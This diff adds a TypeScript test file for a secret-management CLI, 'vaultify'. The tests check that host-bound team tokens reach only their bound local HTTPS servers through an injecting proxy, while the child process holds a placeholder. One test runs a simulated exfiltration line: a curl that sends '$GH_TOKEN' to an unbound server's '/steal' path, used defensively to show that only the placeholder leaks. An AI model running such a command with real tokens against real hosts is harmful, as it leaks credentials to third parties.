@@ -1,0 +1,144 @@
+import * as assert from 'node:assert/strict';
+import { execFileSync } from 'node:child_process';
+import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import * as path from 'node:path';
+import { CertificateAuthority } from '../../src/core/secretless';
+import { TEAM_HOSTS_KEY, TeamFile, generateAgeIdentity, recipientOf } from '../../src/core/sops';
+import { type CliRun, runCli } from '../support/cliProcess';
+import { fakeGitHubToken } from '../support/fakeCredentials';
+import { type TestServer, leafOptions, startEchoServer, startGitServer } from '../support/wireServers';
+
+/**
+ * `vaultify run` and `vaultify sops exec` with team values bound to hosts: the CLI runs the
+ * injecting proxy for its child, and real curl and git talk to local HTTPS servers with their own
+ * CA (trusted through the CLI process's NODE_EXTRA_CA_CERTS). Judged by what can be recovered:
+ * what the bound server received, the child's environment and output, an unbound server.
+ */
+describe('vaultify run and sops exec: secretless team values', function () {
+  // Each test starts node, curl and git processes; generous on a loaded machine, never a speed check.
+  this.timeout(120_000);
+  const token = fakeGitHubToken();
+  let dir: string;
+  let env: NodeJS.ProcessEnv;
+  let bound: TestServer;
+  let unbound: TestServer;
+  let git: TestServer;
+
+  const cli = (args: string[]): Promise<CliRun> => runCli(args, { cwd: dir, env });
+  const assertNoValue = (text: string, where: string): void => assert.ok(!text.includes(token), `the value reached ${where}`);
+
+  before(async () => {
+    dir = mkdtempSync(path.join(tmpdir(), 'vaultify-cli-secretless-'));
+    const serverCa = await CertificateAuthority.create('Test upstream CA');
+    writeFileSync(path.join(dir, 'upstream-ca.pem'), serverCa.certificatePem);
+    bound = await startEchoServer(leafOptions(serverCa));
+    unbound = await startEchoServer(leafOptions(serverCa));
+    const repos = path.join(dir, 'repos');
+    mkdirSync(repos);
+    execFileSync('git', ['init', '-q', '--bare', '-b', 'main', path.join(repos, 'app.git')]);
+    git = await startGitServer(leafOptions(serverCa), repos, 'x-access-token', token);
+
+    const identity = await generateAgeIdentity();
+    const recipient = await recipientOf(identity);
+    writeFileSync(path.join(dir, '.sops.yaml'), `creation_rules:\n  - path_regex: team\\.yaml$\n    age: ${recipient}\n`);
+    const created = await TeamFile.create('team.yaml', [recipient], [identity], { 'gh/token': token, 'db/password': 'FAKE-db-password' });
+    writeFileSync(path.join(dir, 'team.yaml'), created.text);
+    writeFileSync(path.join(dir, '.env'), 'GH_TOKEN=vault:gh/token\nDB_PASSWORD=vault:db/password\n');
+    const runtime = path.join(dir, 'runtime');
+    mkdirSync(runtime, { mode: 0o700 });
+    env = {
+      PATH: process.env.PATH,
+      HOME: dir,
+      XDG_CONFIG_HOME: path.join(dir, 'xdg'),
+      XDG_RUNTIME_DIR: runtime,
+      SOPS_AGE_KEY: identity,
+      NODE_EXTRA_CA_CERTS: path.join(dir, 'upstream-ca.pem'),
+      GIT_CONFIG_NOSYSTEM: '1',
+    };
+  });
+
+  after(async () => {
+    await Promise.all([bound.close(), unbound.close(), git.close()]);
+    rmSync(dir, { recursive: true, force: true });
+  });
+
+  it('sops hosts binds a value in the team file, lists where each goes, and refuses what is not a host', async () => {
+    const set = await cli(['sops', 'hosts', 'team.yaml', 'gh/token', `localhost:${bound.port}`, `localhost:${git.port}`]);
+    assert.equal(set.code, 0, set.stderr);
+    assert.equal(set.stdout.trim(), `team.yaml: gh/token: only on the wire to localhost:${bound.port}, localhost:${git.port}`);
+    const text = readFileSync(path.join(dir, 'team.yaml'), 'utf8');
+    assert.match(text, new RegExp(`^${TEAM_HOSTS_KEY}: ENC\\[`, 'm'));
+    assert.ok(!text.includes('localhost'), 'the hosts are encrypted with the values');
+    const list = await cli(['sops', 'hosts', 'team.yaml']);
+    assert.equal(list.code, 0, list.stderr);
+    assert.match(list.stdout, new RegExp(`^gh/token: only on the wire to localhost:${bound.port}, localhost:${git.port}$`, 'm'));
+    assert.match(list.stdout, /^db\/password: in the process environment$/m);
+    const check = await cli(['sops', 'check', 'team.yaml']);
+    assert.equal(check.code, 0, check.stderr);
+    const bad = await cli(['sops', 'hosts', 'team.yaml', 'gh/token', 'localhost']);
+    assert.equal(bad.code, 2);
+    assert.match(bad.stderr, /this machine: name the one port/);
+    assert.equal((await cli(['sops', 'hosts', 'team.yaml', 'nope', 'api.github.com'])).code, 2);
+  });
+
+  it('run: curl sends the value to the bound host only; the environment, the output and an unbound host hold the placeholder', async () => {
+    const before = bound.received.length;
+    const script = [
+      `curl -sS -H "authorization: Bearer $GH_TOKEN" "https://localhost:${bound.port}/api?t=$GH_TOKEN"`,
+      'echo',
+      `curl -sS "https://localhost:${unbound.port}/steal?t=$GH_TOKEN"`,
+      'echo',
+      'env',
+      'printf "%s" "$GH_TOKEN" | rev',
+    ].join('; ');
+    const run = await cli(['run', '--env-file', '.env', '--', 'sh', '-c', script]);
+    assert.equal(run.code, 0, run.stderr);
+    const received = bound.received.slice(before);
+    assert.equal(received[0].headers.authorization, `Bearer ${token}`, 'the bound host receives the value');
+    assert.equal(new URL(received[0].url, 'https://x').searchParams.get('t'), token);
+    const placeholder = /^GH_TOKEN=(.+)$/m.exec(run.stdout)?.[1] ?? '';
+    assert.match(placeholder, /^ghp_[A-Za-z0-9]{36}$/, 'the child holds a token-shaped placeholder');
+    assert.notEqual(placeholder, token);
+    assert.ok(run.stdout.includes(`Bearer ${placeholder}`), 'the echo comes back with the placeholder');
+    assert.match(run.stdout, /^DB_PASSWORD=\[masked vault:db\/password\]$/m, 'a value without hosts keeps environment delivery, masked');
+    assert.match(run.stdout, /^HTTPS_PROXY=http:\/\/run-/m);
+    assertNoValue(run.stdout + run.stderr, 'the output');
+    assertNoValue(unbound.allReceived(), 'an unbound server');
+    assert.ok(unbound.allReceived().includes(placeholder), 'the unbound server got only the placeholder');
+    assert.match(run.stderr, /gh\/token: a placeholder; the value only on the wire to localhost:/);
+  });
+
+  it('sops exec: git clones and pushes through the credential helper with no token typed, and holds only the placeholder', async () => {
+    const work = path.join(dir, 'work');
+    const script = [
+      `git clone -q https://localhost:${git.port}/app.git ${work}`,
+      `cd ${work}`,
+      'git -c user.name=t -c user.email=t@example.com commit -q --allow-empty -m first',
+      'git push -q origin HEAD:main',
+      'echo "held=$gh_token"',
+    ].join(' && ');
+    const run = await cli(['sops', 'exec', 'team.yaml', '--', 'sh', '-c', script]);
+    assert.equal(run.code, 0, run.stderr);
+    assert.ok(existsSync(path.join(work, '.git')));
+    assert.match(execFileSync('git', ['-C', path.join(dir, 'repos', 'app.git'), 'log', '--format=%s', 'main']).toString(), /first/);
+    assert.match(run.stdout, /^held=ghp_[A-Za-z0-9]{36}$/m);
+    assertNoValue(run.stdout + run.stderr, 'the output');
+    assertNoValue(readFileSync(path.join(work, '.git', 'config'), 'utf8'), "the clone's config");
+  });
+
+  it('leaves only certificates behind while it runs, 0600 in the 0700 folder, and removes them after', async () => {
+    const folder = path.join(dir, 'runtime', 'vaultify');
+    const run = await cli(['run', '--env-file', '.env', '--', 'sh', '-c', 'cat "$SSL_CERT_FILE"; ls -l "$SSL_CERT_FILE"']);
+    assert.equal(run.code, 0, run.stderr);
+    assert.match(run.stdout, /-----BEGIN CERTIFICATE-----/);
+    assert.ok(!/PRIVATE KEY/.test(run.stdout), 'no key in the trust bundle');
+    assert.match(run.stdout, /^-rw------- /m);
+    assert.equal(statSync(folder).mode & 0o777, 0o700);
+    assert.deepEqual(
+      readdirSync(folder).filter((f) => f.startsWith('trust-')),
+      [],
+      'the trust bundle is removed when the child ends',
+    );
+  });
+});
